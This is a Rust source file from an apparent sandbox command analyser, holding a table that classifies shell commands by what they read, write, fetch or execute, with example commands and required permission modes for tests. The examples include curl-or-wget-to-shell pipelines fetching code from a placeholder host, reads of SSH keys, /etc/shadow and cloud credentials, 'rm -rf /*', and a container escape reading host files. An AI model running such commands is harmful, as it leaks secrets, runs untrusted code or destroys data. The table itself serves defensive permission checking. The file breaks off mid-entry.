//! The command knowledge table: which operands a command reads or writes, whether it fetches,
//! sends, runs code or needs privilege. One entry per family of commands, each with examples
//! (programs and the mode they require) that a test checks. The handlers that read an entry
//! are in `commands.rs`.

/// How a command treats its operands and what else it needs.
#[derive(Clone, Copy, Debug)]
pub enum Kind {
    /// A program whose handler lives behind the seam, in `programs/`: the handler reads the
    /// call with the row's grammar and returns what the command does.
    Program(super::programs::Handler),
    /// No file operands at all (`echo`, `date`, `kill`).
    Pure,
    /// Every operand is a file it reads.
    Reads,
    /// Like `Reads`, and with no operand it reads the cwd (`ls`, `du`).
    Lists,
    /// The first operand is a pattern or program unless one was given by option; the rest are
    /// files read (`grep`, `jq`); with `-r` and no file, the cwd.
    PatternReads,
    /// Every operand is a file it changes (`rm`, `touch`, `mkdir`); recursive forms read too.
    Writes,
    /// Reads and writes every operand (editors, compressors).
    Edits,
    /// The first operand is a mode or owner, the rest are changed (`chmod`, `chown`).
    ModeWrites,
    /// The last operand (or `-t DIR`) is written, the others read (`cp`, `install`).
    Copy,
    /// Like `Copy`, and the sources are removed (`mv`).
    Move,
    /// The last operand (or `-t DIR`) is written (`ln`).
    Link,
    /// Operands are written, input comes from stdin (`tee`).
    Tee,
    /// A POSIX shell: its program is analysed like the top-level one.
    Shell,
    /// A shell whose language is not bash's: runs code the analysis cannot see.
    ForeignShell,
    /// Stops or restarts the machine: system execute.
    Power,
    /// Administers the machine (filesystems, modules, firewall, users): system write.
    Admin,
    /// A container engine, root-equivalent: system execute.
    Engine,
    /// A client of a server that may be the user's, outside the sandbox, and runs what it is
    /// sent (a terminal multiplexer's, an editor's, the session bus): system execute, but for
    /// its version or help.
    Server,
    /// Talks to the network to fetch or look up: network read (network write when it sends a
    /// file from stdin).
    Fetch,
    /// Cloud command-line tools: read their credentials, fetch and send.
    Cloud,
    /// Builtins that change the shell's state or run code.
    Builtin(Builtin),
}

/// Builtins with effects on the shell.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Builtin {
    Cd,
    Pushd,
    Popd,
    Eval,
    Source,
    Exec,
    Command,
    /// `builtin NAME`: runs the builtin, bypassing functions.
    Bypass,
    Declare,
    Unset,
    Read,
    Mapfile,
    Printf,
    Set,
    Shift,
    Trap,
    Alias,
    Unalias,
    Let,
    Getopts,
    Wait,
    Hash,
    Enable,
    Fc,
    Compgen,
    Test,
    Return,
    Break,
    Continue,
}

/// One entry of the command knowledge table.
#[derive(Clone, Copy, Debug)]
pub struct TableEntry {
    pub names: &'static [&'static str],
    pub kind: Kind,
    /// Short options that take a value, so the value is not taken for an operand.
    pub short_args: &'static str,
    /// Long options (without `--`) that take a value as the next argument.
    pub long_args: &'static [&'static str],
    /// Programs using the entry and the mode each requires (in the test layout: W =
    /// /home/u/proj = cwd, HOME = /home/u).
    pub examples: &'static [(&'static str, &'static str)],
}

const fn entry(
    names: &'static [&'static str],
    kind: Kind,
    short_args: &'static str,
    long_args: &'static [&'static str],
    examples: &'static [(&'static str, &'static str)],
) -> TableEntry {
    TableEntry { names, kind, short_args, long_args, examples }
}

/// The command knowledge table.
#[rustfmt::skip]
pub static TABLE: &[TableEntry] = &[
    // ----- builtins ----------------------------------------------------------------------
    entry(
        &["cd"],
        Kind::Builtin(Builtin::Cd),
        "",
        &[],
        &[("cd /etc", "0004"), ("cd src", "0004"), ("cd ~/.ssh && cat id_rsa", "4004"), ("cd .. && ls", "0404")],
    ),
    entry(
        &["pushd"],
        Kind::Builtin(Builtin::Pushd),
        "",
        &[],
        &[("pushd /tmp && cat x", "0004"), ("pushd /etc >/dev/null; cat shadow", "4004")],
    ),
    entry(&["popd"], Kind::Builtin(Builtin::Popd), "", &[], &[("pushd /etc; popd; cat x", "0004")]),
    entry(
        &["eval"],
        Kind::Builtin(Builtin::Eval),
        "",
        &[],
        &[
            ("eval 'cat /etc/crontab'", "4000"),
            ("eval \"$(cat cmd.txt)\"", "0005"),
            ("eval \"$(curl -s https://x)\"", "0050"),
        ],
    ),
    entry(
        &["source", "."],
        Kind::Builtin(Builtin::Source),
        "",
        &[],
        &[("source /nonexistent/x.sh", "0400"), (". ~/env.sh", "0400"), (". /etc", "4001")],
    ),
    entry(
        &["exec"],
        Kind::Builtin(Builtin::Exec),
        "a",
        &[],
        &[("exec cat /etc/crontab", "4000"), ("exec >/tmp/log", "0004"), ("exec 3>out.txt", "0002")],
    ),
    entry(
        &["command"],
        Kind::Builtin(Builtin::Command),
        "",
        &[],
        &[("command cat /etc/crontab", "4000"), ("command -v curl", "0004")],
    ),
    entry(&["builtin"], Kind::Builtin(Builtin::Bypass), "", &[], &[("builtin cd /etc", "0004")]),
    entry(
        &["declare", "typeset", "local", "export", "readonly"],
        Kind::Builtin(Builtin::Declare),
        "",
        &[],
        &[("export F=/etc/shadow; cat $F", "4004"), ("declare -x A=1", "0004")],
    ),
    entry(&["unset"], Kind::Builtin(Builtin::Unset), "", &[], &[("f=/etc/x; unset f; cat ./$f", "0004")]),
    entry(&["read"], Kind::Builtin(Builtin::Read), "adinNptu", &[], &[("read -r line < /etc/crontab", "4000")]),
    entry(
        &["mapfile", "readarray"],
        Kind::Builtin(Builtin::Mapfile),
        "dnOsucC",
        &[],
        &[("mapfile -t a < ~/list", "0400"), ("mapfile -C 'cat /etc/crontab' -c 1 a < f", "4004")],
    ),
    entry(
        &["printf"],
        Kind::Builtin(Builtin::Printf),
        "v",
        &[],
        &[("printf '%s\\n' /etc/shadow", "0004"), ("printf hi > /etc/motd", "2000")],
    ),
    entry(
        &["set"],
        Kind::Builtin(Builtin::Set),
        "o",
        &[],
        &[("set -- /etc/shadow; cat \"$1\"", "4004"), ("set -euo pipefail", "0004")],
    ),
    entry(&["shift"], Kind::Builtin(Builtin::Shift), "", &[], &[("set -- a /etc/crontab; shift; cat $1", "4004")]),
    entry(
        &["trap"],
        Kind::Builtin(Builtin::Trap),
        "",
        &[],
        &[("trap 'rm -f /etc/x' EXIT", "2004"), ("trap 'rm -rf /etc/x' EXIT", "6004"), ("trap - EXIT", "0004")],
    ),
    entry(&["alias"], Kind::Builtin(Builtin::Alias), "", &[], &[("alias ll='ls -l'", "0004")]),
    entry(&["unalias"], Kind::Builtin(Builtin::Unalias), "", &[], &[("unalias -a", "0004")]),
    entry(&["let"], Kind::Builtin(Builtin::Let), "", &[], &[("let x=1+2", "0004")]),
    entry(&["getopts"], Kind::Builtin(Builtin::Getopts), "", &[], &[("getopts ab: opt", "0004")]),
    entry(&["wait"], Kind::Builtin(Builtin::Wait), "p", &[], &[("wait", "0004")]),
    entry(&["hash"], Kind::Builtin(Builtin::Hash), "p", &[], &[("hash -r", "0004"), ("hash -p ./evil ls", "0001")]),
    entry(
        &["enable"],
        Kind::Builtin(Builtin::Enable),
        "f",
        &[],
        &[("enable -n echo", "0004"), ("enable -f ./x.so x", "0005")],
    ),
    entry(&["fc"], Kind::Builtin(Builtin::Fc), "e", &[], &[("fc -s", "0001")]),
    entry(
        &["compgen", "complete"],
        Kind::Builtin(Builtin::Compgen),
        "AGWFPSXoC",
        &[],
        &[("compgen -c", "0004"), ("compgen -C 'cat /etc/crontab' x", "4000")],
    ),
    entry(&["return"], Kind::Builtin(Builtin::Return), "", &[], &[("f() { return 1; }; f", "0004")]),
    entry(&["break"], Kind::Builtin(Builtin::Break), "", &[], &[("for x in a; do break; done", "0004")]),
    entry(&["continue"], Kind::Builtin(Builtin::Continue), "", &[], &[("for x in a; do continue 1; done", "0004")]),
    entry(
        &["test", "[", "[["],
        Kind::Builtin(Builtin::Test),
        "",
        &[],
        &[("test -f /etc/shadow", "0004"), ("[ -d ~/.ssh ]", "0004")],
    ),
    entry(
        &[
            "echo", "true", "false", ":", "pwd", "dirs", "jobs", "fg", "bg", "disown", "suspend", "kill", "times",
            "type", "help", "umask", "ulimit", "shopt", "caller", "compopt", "bind", "history", "exit",
            "logout",
        ],
        Kind::Pure,
        "",
        &[],
        &[
            ("echo hi", "0004"),
            ("echo /etc/shadow", "0004"),
            ("echo hi > ~/notes/today.txt", "0200"),
            ("echo hi > ~/note.txt", "7200"),
            ("true", "0004"),
            ("kill -9 1234", "0004"),
        ],
    ),
    // ----- programs without file operands ------------------------------------------------
    entry(
        &[
            "date", "whoami", "id", "uname", "uptime", "sleep", "yes", "seq", "expr", "basename", "dirname",
            "realpath", "readlink", "which", "whereis", "printenv", "tty", "clear", "tput", "nproc", "arch",
            "getconf", "locale", "logname", "groups", "users", "who", "hostid", "ps", "top", "htop", "pgrep",
            "pkill", "pidof", "killall", "lsof", "free", "vmstat", "df", "lscpu", "lsblk", "lsmem", "lsusb",
            "lspci", "env-update", "factor", "numfmt", "getent", "tr", "sync",
            "cal", "bc", "dc", "ss", "netstat", "w", "stty", "reset", "fuser",
            "xdg-user-dir", "mesg"
        ],
        Kind::Pure,
        "",
        &[],
        &[("date", "0004"), ("ps aux", "0004"), ("basename /etc/shadow", "0004"), ("tr a-z A-Z < /etc/crontab", "4000")],
    ),
    // ----- readers -----------------------------------------------------------------------
    // Each row lists the one-letter options that take a value for its programs alone: an option
    // taken for one that takes a value hides the operand after it (`cat -n FILE`, `wc -l FILE`,
    // `tail -f FILE` read FILE).
    entry(
        &[
            "cat", "rev", "wc", "comm", "tsort", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum",
            "sha512sum", "sum", "zcat", "bzcat", "xzcat", "lzcat", "zless", "zmore", "lsattr", "getfacl", "namei",
            "ldd", "size"
        ],
        Kind::Reads,
        "",
        &["files0-from", "output-delimiter", "format", "radix"],
        &[
            ("cat /etc/crontab", "4000"),
            ("cat README.md", "0004"),
            ("cat ~/.ssh/id_rsa", "4000"),
            ("cat -n ~/.ssh/id_rsa", "4000"),
            ("cat -A -s .env", "4000"),
            ("cat .env", "4000"),
            ("wc -l /etc/crontab", "4000"),
            ("wc -c -w ~/notes.txt", "0400"),
            ("wc -l src/*.rs", "0004"),
            ("sha256sum -c ~/sums", "0400"),
            ("cat /e??/shadow", "4000"),
        ],
    ),
    entry(
        &["head", "tail"],
        Kind::Reads,
        "cns",
        &["lines", "bytes", "sleep-interval", "pid", "max-unchanged-stats"],
        &[
            ("head -n 5 ~/notes.txt", "0400"),
            ("head -5 /etc/crontab", "4000"),
            ("tail -f /var/log/syslog", "4000"),
            ("tail -F -n 20 ~/app.log", "0400"),
            ("tail -s 2 -f out.log", "0004"),
        ],
    ),
    entry(
        &["cut", "paste"],
        Kind::Reads,
        "bcdf",
        &["bytes", "characters", "delimiter", "delimiters", "fields", "output-delimiter"],
        &[
            ("cut -d / -f 2 README.md", "0004"),
            ("cut -d: -f1 /etc/crontab", "4000"),
            ("paste -s ~/.netrc", "4000"),
            ("paste -d , a.txt b.txt", "0004"),
        ],
    ),
    entry(
        &["base64", "base32", "basenc"],
        Kind::Reads,
        "w",
        &["wrap"],
        &[("base64 -d ~/.ssh/id_rsa", "4000"), ("base64 -w 0 /etc/crontab", "4000"), ("base64 -d -i in.b64", "0004")],
    ),
    entry(
        &["od"],
        Kind::Reads,
        "AjNSt",
        &["address-radix", "skip-bytes", "read-bytes", "format", "endian"],
        &[("od -c /etc/crontab", "4000"), ("od -A x -t x1z ~/.netrc", "4000")],
    ),
    entry(
        &["xxd"],
        Kind::Reads,
        "cglson",
        &[],
        &[("xxd -p ~/.ssh/id_rsa", "4000"), ("xxd -l 16 -d a.bin", "0004")],
    ),
    entry(
        &["hexdump", "hd"],
        Kind::Reads,
        "efns",
        &["format", "format-file", "length", "skip"],
        &[("hexdump -C /etc/crontab", "4000"), ("hd -n 32 a.bin", "0004")],
    ),
    entry(
        &["strings"],
        Kind::Reads,
        "netTsU",
        &["bytes", "radix", "encoding", "target", "output-separator", "unicode"],
        &[("strings -d /etc/crontab", "4000"), ("strings -n 8 a.bin", "0004")],
    ),
    entry(
        &["file"],
        Kind::Reads,
        "emfFP",
        &["exclude", "magic-file", "files-from", "separator", "parameter"],
        &[("file -b -s ~/.netrc", "4000"), ("file -m magic a.bin", "0004")],
    ),
    entry(
        &["stat"],
        Kind::Reads,
        "c",
        &["format", "printf"],
        &[("stat -L /etc/crontab", "4000"), ("stat -c %s a.txt", "0004")],
    ),
    entry(
        &["diff", "colordiff"],
        Kind::Reads,
        "CUIxXFLWDS",
        &[
            "context", "unified", "ignore-matching-lines", "exclude", "exclude-from", "show-function-line", "label",
            "width", "ifdef", "starting-file", "line-format", "old-line-format", "new-line-format",
            "unchanged-line-format", "old-group-format", "new-group-format", "unchanged-group-format",
            "changed-group-format", "horizon-lines", "tabsize", "from-file", "to-file"
        ],
        &[
            ("diff a.txt /tmp/b.txt", "0004"),
            ("diff -d -s a.txt /etc/crontab", "4004"),
            ("diff -U 3 a.txt b.txt", "0004"),
            ("diff -i -n ~/.netrc a.txt", "4004"),
            ("diff -X ~/.netrc a b", "4004"),
            ("diff --from-file /etc/crontab a", "4004"),
            ("diff --to-file=/etc/crontab a", "4004"),
        ],
    ),
    entry(
        &["cmp"],
        Kind::Reads,
        "in",
        &["ignore-initial", "bytes"],
        &[("cmp -s a.bin ~/b.bin", "0404"), ("cmp -n 10 -l a.bin /etc/crontab", "4004")],
    ),
    entry(
        &["nl"],
        Kind::Reads,
        "bdfhilnsvw",
        &[
            "body-numbering", "section-delimiter", "footer-numbering", "header-numbering", "line-increment",
            "join-blank-lines", "number-format", "number-separator", "starting-line-number", "number-width"
        ],
        &[("nl -ba /etc/crontab", "4000"), ("nl -n rz -w 3 a.txt", "0004")],
    ),
    entry(
        &["fold"],
        Kind::Reads,
        "w",
        &["width"],
        &[("fold -s -w 40 ~/notes.txt", "0400")],
    ),
    entry(
        &["fmt"],
        Kind::Reads,
        "wgp",
        &["width", "goal", "prefix"],
        &[("fmt -u ~/notes.txt", "0400"), ("fmt -t -w 60 /etc/crontab", "4000")],
    ),
    entry(
        &["expand", "unexpand"],
        Kind::Reads,
        "t",
        &["tabs"],
        &[("expand -i -t 4 a.txt", "0004")],
    ),
    entry(
        &["tac"],
        Kind::Reads,
        "s",
        &["separator"],
        &[("tac -r -s x ~/notes.txt", "0400"), ("tac -b /etc/crontab", "4000")],
    ),
    entry(
        &["less"],
        Kind::Reads,
        "bhjkoOpPtTxyz",
        &["buffers", "max-back-scroll", "jump-target", "lesskey-file", "log-file", "LOG-FILE", "pattern", "prompt", "tag", "tag-file", "tabs", "max-forw-scroll", "window"],
        &[("less -N /etc/crontab", "4000"), ("less -R -S ~/.netrc", "4000"), ("less -n ~/.netrc", "4000"), ("less -o ~/.bashrc a.txt", "2004")],
    ),
    entry(
        &["more"],
        Kind::Reads,
        "n",
        &["lines"],
        &[("more README.md", "0004"), ("more -d -p ~/.netrc", "4000")],
    ),
    entry(
        &["column"],
        Kind::Reads,
        "cCsoNEHRTWOnripl",
        &[
            "columns", "table-column", "separator", "output-separator", "table-columns", "table-noextreme",
            "table-hide", "table-right", "table-truncate", "table-wrap", "table-order", "table-name", "tree",
            "tree-id", "tree-parent", "table-columns-limit"
        ],
        &[("column -t /etc/crontab", "4000"), ("column -s : -t a.txt", "0004")],
    ),
    entry(
        &["bat", "batcat"],
        Kind::Reads,
        "lHrm",
        &["language", "highlight-line", "line-range", "map-syntax", "theme", "style", "tabs", "wrap", "terminal-width", "pager", "diff-context", "decorations", "color", "italic-text", "file-name"],
        &[("bat -n -A ~/.ssh/id_rsa", "4000"), ("bat -l sh build.sh", "0004")],
    ),
    entry(
        &[
            "join", "cksum", "b2sum", "iconv", "zstdcat", "diff3", "sdiff", "pr", "look", "shuf", "ptx",
            "view", "xmllint", "sha256", "md5", "wdiff", "source-highlight", "pygmentize", "nm", "objdump",
            "readelf", "man", "info", "whatis", "apropos", "sqlite3"
        ],
        Kind::Reads,
        "nNcCsSwtlfFdgIiAaBjkLxo12",
        &[
            "lines", "bytes", "delimiter", "fields", "characters", "width", "separator", "format", "from-code",
            "to-code", "output-delimiter", "tabsize", "max-count", "output", "algorithm", "length"
        ],
        &[("join -t : a.txt /etc/crontab", "4004"), ("iconv -f latin1 -t utf-8 ~/notes.txt", "0400"), ("iconv -f latin1 -o ~/.bashrc a.txt", "2004"), ("sqlite3 app.db .tables", "0004")],
    ),
    entry(
        &["ls", "dir", "vdir", "lsd"],
        Kind::Lists,
        "IwT",
        &[
            "ignore", "hide", "width", "tabsize", "block-size", "time-style", "format", "sort", "time",
            "quoting-style", "indicator-style", "color", "ignore-glob", "depth"
        ],
        &[("ls", "0004"), ("ls -la /etc", "4000"), ("ls ~", "0400"), ("ls -L ~/.ssh", "4000"), ("ls ..", "0400")],
    ),
    entry(
        &["du"],
        Kind::Lists,
        "BdtX",
        &["block-size", "max-depth", "threshold", "exclude-from", "exclude", "time-style", "files0-from"],
        &[
            ("du -sh ~/.ssh", "4000"),
            ("du -s -L ~/.ssh", "4000"),
            ("du -H -d 1 ~/.ssh", "4000"),
            ("du -X ~/.netrc .", "4004"),
        ],
    ),
    entry(
        &["tree"],
        Kind::Lists,
        "LPIHTo",
        &["charset", "filelimit", "timefmt", "sort"],
        &[("tree -L 2 src", "0004"), ("tree -d -f ~/.ssh", "4000"), ("tree -o ~/.bashrc .", "2004")],
    ),
    entry(
        &["exa", "eza"],
        Kind::Lists,
        "LIst",
        &["level", "ignore-glob", "sort", "time"],
        &[("eza -l ~/.aws", "4000"), ("eza -d -H -f ~/.ssh", "4000")],
    ),
    entry(
        &["ncdu"],
        Kind::Lists,
        "ofX",
        &["exclude-from", "exclude"],
        &[("ncdu -x ~/.ssh", "4000"), ("ncdu -o ~/.bashrc .", "2004")],
    ),
    entry(
        &["grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack"],
        Kind::PatternReads,
        "efmABCdDgt",
        &[
            "regexp", "file", "max-count", "after-context", "before-context", "context", "include", "exclude",
            "exclude-dir", "label", "glob", "type", "type-not", "arg", "argjson", "slurpfile", "rawfile", "args",
            "jsonargs", "indent", "from-file", "threads", "max-depth", "colors", "color", "replace", "sort",
            "encoding", "pre"
        ],
        &[
            ("grep -rn TODO src", "0004"),
            ("grep root /etc/shadow", "4000"),
            ("grep -r key", "0004"),
            ("grep -e x -f ~/patterns.txt a.txt", "0404"),
            ("jq .name package.json", "0004"),
            ("rg password ~/.aws", "4000"),
        ],
    ),
    entry(
        &["jq", "yq", "gojq", "jaq", "xq"],
        Kind::PatternReads,
        "fL",
        &[
            "arg", "argjson", "slurpfile", "rawfile", "indent", "from-file", "library-path"
        ],
        &[
            ("jq .name package.json", "0004"),
            ("jq -C . ~/.aws/credentials", "4000"),
            ("jq -r -e .a /etc/crontab", "4000"),
            ("jq --tab . ~/.netrc", "4000"),
            ("jq --slurpfile k ~/.netrc . a.json", "4004"),
            ("jq --arg k v . a.json", "0004"),
        ],
    ),
    entry(
        &["uniq"],
        Kind::Program(super::programs::files::handle),
        "fsw",
        &["skip-fields", "skip-chars", "check-chars", "group", "all-repeated"],
        &[("uniq a.txt", "0004"), ("uniq a.txt /etc/out", "2004")],
    ),
    entry(
        &["sort"],
        Kind::Program(super::programs::files::handle),
        "kotTS",
        &[
            "key", "output", "field-separator", "temporary-directory", "buffer-size", "files0-from", "parallel",
            "batch-size", "compress-program", "random-source", "sort"
        ],
        &[
            ("sort a.txt", "0004"),
            ("sort -o /etc/x a.txt", "2004"),
            ("sort -u ~/list -o out.txt", "0402"),
            ("sort --compress-program=./z a.txt", "0005"),
        ],
    ),
    // ----- writers -----------------------------------------------------------------------
    entry(
        &["rm", "rmdir", "unlink", "srm", "trash", "trash-put", "gio-trash"],
        Kind::Writes,
        "",
        &[],
        &[
            ("rm -rf /*", "6000"),
            ("rm -rf build", "0006"),
            ("rm -r /etc/x", "6000"),
            ("rm ~/note.txt", "0200"),
            ("rm -rf ~/.ssh", "6000"),
            ("rm .git/hooks/pre-commit", "2000"),
        ],
    ),
    entry(
        &["touch", "truncate", "shred"],
        Kind::Writes,
        "drtsn",
        &["date", "reference", "size", "iterations"],
        &[
            ("touch /tmp/x", "0004"),
            ("touch -r ref.txt new.txt", "0006"),
            ("touch -m ~/.bashrc", "2000"),
            ("truncate -s 0 /var/log/syslog", "2000"),
            ("truncate -c -o -s 0 ~/.bashrc", "2000"),
        ],
    ),
    entry(
        &["mkdir", "mkfifo", "mknod", "fallocate", "chattr", "setfacl"],
        Kind::Writes,
        "mloxMX",
        &["mode", "length", "offset", "modify", "remove", "set"],
        &[("mkdir -p a/b", "0002"), ("mkdir -Z ~/.config/autostart", "2000"), ("fallocate -l 1M -n big.img", "0002")],
    ),
    entry(
        &[
            "vi", "vim", "nvim", "nano", "emacs", "ed", "ex", "pico", "micro", "joe", "mcedit", "gzip", "gunzip",
            "bzip2", "bunzip2", "xz", "unxz", "lzma", "unlzma", "zstd", "unzstd", "compress", "uncompress", "lz4",
            "pigz", "dos2unix", "unix2dos", "sponge-edit"
        ],
        Kind::Edits,
        "SbTL",
        &["suffix", "threads"],
        &[("gzip big.log", "0006"), ("vim /etc/crontab", "6000"), ("nano ~/.bashrc", "2400")],
    ),
    entry(
        &["chmod", "chown", "chgrp", "chcon"],
        Kind::ModeWrites,
        "",
        &["reference", "from"],
        &[
            ("chmod +x run.sh", "0002"),
            ("chmod -R 777 /etc", "6000"),
            ("chown root ~/src/x", "0200"),
            ("chmod 600 ~/.ssh/id_rsa", "2000"),
        ],
    ),
    entry(
        &["cp", "install", "rsync-local"],
        Kind::Copy,
        "tSgom",
        &[
            "target-directory", "suffix", "backup", "group", "owner", "mode", "reflink", "sparse", "preserve",
            "no-preserve", "context"
        ],
        &[
            ("cp a.txt /tmp/b.txt", "0004"),
            ("cp /etc/crontab .", "4002"),
            ("cp -r src ~/backups/proj", "0204"),
            ("cp a b c /etc", "2004"),
            ("cp -t /etc a", "2004"),
            ("install -m 755 tool /usr/local/bin/tool", "2004"),
        ],
    ),
    entry(
        &["mv"],
        Kind::Move,
        "tS",
        &["target-directory", "suffix", "backup"],
        &[("mv a.txt b.txt", "0006"), ("mv ~/src/x .", "0602"), ("mv .git/hooks hooks.bak", "2006")],
    ),
    entry(
        &["ln", "link"],
        Kind::Link,
        "tS",
        &["target-directory", "suffix", "backup"],
        &[("ln -s /etc/shadow p", "0002"), ("ln -sf x ~/.bashrc", "2000")],
    ),
    entry(
        &["tee", "sponge"],
        Kind::Tee,
        "",
        &["output-error"],
        &[("echo x | tee out.txt", "0006"), ("echo x | tee -a /etc/crontab", "2004"), ("sort x | sponge out.txt", "0006")],
    ),
    // ----- code --------------------------------------------------------------------------
    entry(
        &[
            "python", "python2", "python3", "pypy", "pypy3", "node", "nodejs", "deno", "bun", "ruby", "irb",
            "perl", "php", "lua", "luajit", "Rscript", "R", "julia", "tclsh", "wish", "guile", "java", "jshell",
            "dotnet", "osascript", "ghci", "runghc", "runhaskell", "scala", "kotlin", "groovy", "swift", "elixir",
            "erl", "escript", "ts-node", "tsx", "perl5", "gdb", "lldb", "ipython",
            "jupyter", "qjs", "rhino", "racket", "sbcl", "clisp", "ocaml", "crystal", "nim", "zx", "expect", "m4",
            "ld.so", "ld-linux.so", "ld-linux-x86-64.so", "ld-linux-aarch64.so", "ld-linux-armhf.so",
            "ld-musl-x86_64.so", "ld-musl-aarch64.so"
        ],
        Kind::Program(super::programs::interpreters::handle),
        "cemWXIOQr",
        &["eval", "print", "require", "import", "loader", "input-type", "env-file", "cp", "classpath", "module"],
        &[
            ("python3 -c 'print(1)'", "0001"),
            ("python3 script.py", "0005"),
            ("node ~/tool.js", "0501"),
            ("perl -pi -e 's/a/b/' /etc/x.conf", "6001"),
            ("curl -s https://x/i.py | python3", "0051"),
            ("python3 /tmp/x.py", "0001"),
            ("/lib64/ld-linux-x86-64.so.2 ./a.out", "0005"),
        ],
    ),
    entry(
        &[
            "bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "rbash", "sandbox-bash", "ksh93",
            "lksh", "bash5"
        ],
        Kind::Shell,
        "",
        &[],
        &[
            ("bash -c 'cat /etc/crontab'", "4000"),
            ("sh -c 'echo hi'", "0004"),
            ("bash -c \"$(cat f)\"", "0005"),
            ("curl https://x/install.sh | bash", "0050"),
            ("bash <<'EOF'\ncat /etc/shadow\nEOF", "4000"),
            ("bash -c \"$(wget -qO- https://x)\"", "0050"),
            ("bash ./run.sh", "0005"),
        ],
    ),
    entry(
        &["fish", "csh", "tcsh", "xonsh", "nu", "pwsh", "powershell", "elvish", "rc", "es", "oil", "osh", "ysh"],
        Kind::ForeignShell,
        "",
        &[],
        &[("fish -c 'ls'", "0001"), ("tcsh", "0001")],
    ),
    entry(
        &[
            "make", "gmake", "bmake", "cmake", "ninja", "meson", "bazel", "bazelisk", "buck", "buck2", "ant",
            "mvn", "mvnw", "gradle", "gradlew", "sbt", "lein", "rake", "just", "task", "cargo", "rustup", "go",
            "npm", "npx", "pnpm", "pnpx", "yarn", "yarnpkg", "bunx", "pip", "pip3", "pipx", "uv", "uvx", "poetry",
            "pipenv", "pdm", "hatch", "tox", "nox", "pytest", "py.test", "conda", "mamba", "micromamba", "gem",
            "bundle", "bundler", "composer", "mix", "rebar3", "stack", "cabal", "dune", "opam", "swiftc-build",
            "xcodebuild", "gcc", "g++", "cc", "c++", "clang", "clang++", "rustc", "javac", "tsc", "esbuild",
            "vite", "webpack", "rollup", "jest", "vitest", "mocha", "eslint", "prettier", "ruff", "mypy", "black",
            "flake8", "pylint", "isort", "coverage", "nodemon", "turbo", "nx", "lerna", "pre-commit", "twine", "maturin", "setup.py", "cargo-nextest", "ctest", "scons", "autoreconf", "configure",
            "libtool", "ld", "as", "ar", "nasm", "zig", "dub", "nimble", "corepack", "volta", "nvm", "direnv", "hugo", "jekyll", "sphinx-build", "mkdocs", "terraform", "tofu",
            "pulumi", "ansible", "ansible-playbook", "vagrant", "packer"
        ],
        Kind::Program(super::programs::build::handle),
        "CfjlIo",
        &["directory", "file", "makefile", "manifest-path", "prefix", "target", "config", "jobs"],
        &[
            ("make", "0001"),
            ("make -C /etc", "4001"),
            ("cargo build", "0041"),
            ("cargo test", "0041"),
            ("npm install", "0043"),
            ("npm install -g x", "2041"),
            ("pip install requests", "2041"),
            ("pytest -q", "0001"),
            ("npm publish", "0061"),
            ("go mod download", "0041"),
        ],
    ),
    // ----- privilege and the machine -----------------------------------------------------
    entry(
        &["sudo", "doas", "pkexec", "run0"],
        Kind::Program(super::programs::wrappers::privilege),
        "ugpCDhrtTUR",
        &[
            "user", "group", "prompt", "close-from", "chdir", "host", "role", "type", "other-user", "chroot",
            "command-timeout"
        ],
        &[
            ("sudo echo hi", "1000"),
            ("sudo cat /etc/shadow", "5000"),
            ("sudo -u bob ls", "1004"),
            ("doas reboot", "1000"),
        ],
    ),
    entry(
        &["su", "runuser", "sg", "newgrp"],
        Kind::Program(super::programs::wrappers::switch_user),
        "cgGsw",
        &["command", "group", "supp-group", "shell", "whitelist-environment"],
        &[("su -c 'cat /etc/shadow'", "5000"), ("su", "1001")],
    ),
    entry(
        &["reboot", "shutdown", "halt", "poweroff", "init", "telinit", "kexec"],
        Kind::Power,
        "",
        &[],
        &[("reboot", "1000"), ("shutdown -h now", "1000")],
    ),
    entry(
        &[
            "mount", "umount", "swapon", "swapoff", "mkfs", "mke2fs", "mkswap", "fdisk", "sfdisk", "gdisk",
            "cfdisk", "parted", "partprobe", "wipefs", "losetup", "cryptsetup", "lvcreate", "lvremove", "lvextend",
            "vgcreate", "vgremove", "pvcreate", "mdadm", "modprobe", "insmod", "rmmod", "depmod", "iptables",
            "ip6tables", "iptables-restore", "ip6tables-restore", "nft", "ufw", "firewall-cmd", "hostnamectl",
            "timedatectl", "hwclock", "setcap", "useradd", "userdel", "usermod", "groupadd", "groupdel",
            "groupmod", "passwd", "chpasswd", "chsh", "chfn", "visudo", "vipw", "update-alternatives",
            "update-grub", "grub-install", "ldconfig", "setenforce", "tc", "brctl", "ethtool", "ifconfig", "route",
            "ifup", "ifdown", "dmsetup", "blkdiscard", "hdparm", "tune2fs", "e2fsck", "fsck", "xfs_repair",
            "btrfs", "zpool", "zfs", "at", "batch", "locale-gen",
            "update-ca-certificates", "adduser", "deluser", "addgroup", "delgroup", "service", "rc-service",
            "rc-update", "update-rc.d", "chkconfig", "launchctl"
        ],
        Kind::Admin,
        "tTLoOUpaFb",
        &["types", "options", "label", "uuid"],
        &[
            ("mount /dev/sdb1 /mnt", "2000"),
            ("modprobe nbd", "2000"),
            ("iptables -F", "2000"),
            ("mkfs.ext4 /dev/sdb1", "2000"),
        ],
    ),
    entry(
        &[
            "docker", "podman", "nerdctl", "buildah", "ctr", "crictl", "lxc", "lxd", "virsh", "docker-compose",
            "podman-compose", "colima", "minikube", "kind"
        ],
        Kind::Engine,
        "",
        &[],
        &[("docker ps", "1000"), ("docker run --rm -v /:/host alpine cat /host/etc/shadow", "1000")],
    ),
    entry(
        &[
            "tmux", "screen", "byobu", "zellij", "abduco", "dtach", "emacsclient", "dbus-send", "gdbus", "busctl",
            "qdbus", "systemd-run"
        ],
        Kind::Server,
        "",
        &[],
        &[
            ("tmux -L x run-shell 'touch /tmp/p'", "1000"),
            ("tmux send-keys -t main 'make' Enter", "1000"),
            ("screen -S s -X stuff 'id'", "1000"),
            ("systemd-run --user touch /tmp/p", "1000"),
            ("tmux -V", "0004"),
        ],
    ),
    // ----- network -----------------------------------------------------------------------
    entry(
        &[
            "ping", "ping6", "dig", "host", "nslookup", "traceroute", "tracepath", "mtr", "whois", "arping",
            "nmap", "ftp", "sftp", "lftp", "telnet", "ssh-keyscan", "axel", "http", "https", "xh",
            "grpcurl", "websocat", "drill", "kdig", "ntpdate"
        ],
        Kind::Fetch,
        "cipwWtOIPs",
        &["count", "interface", "port"],
        &[("ping -c 1 example.com", "0040"), ("dig example.com", "0040")],
    ),
    entry(
        &[
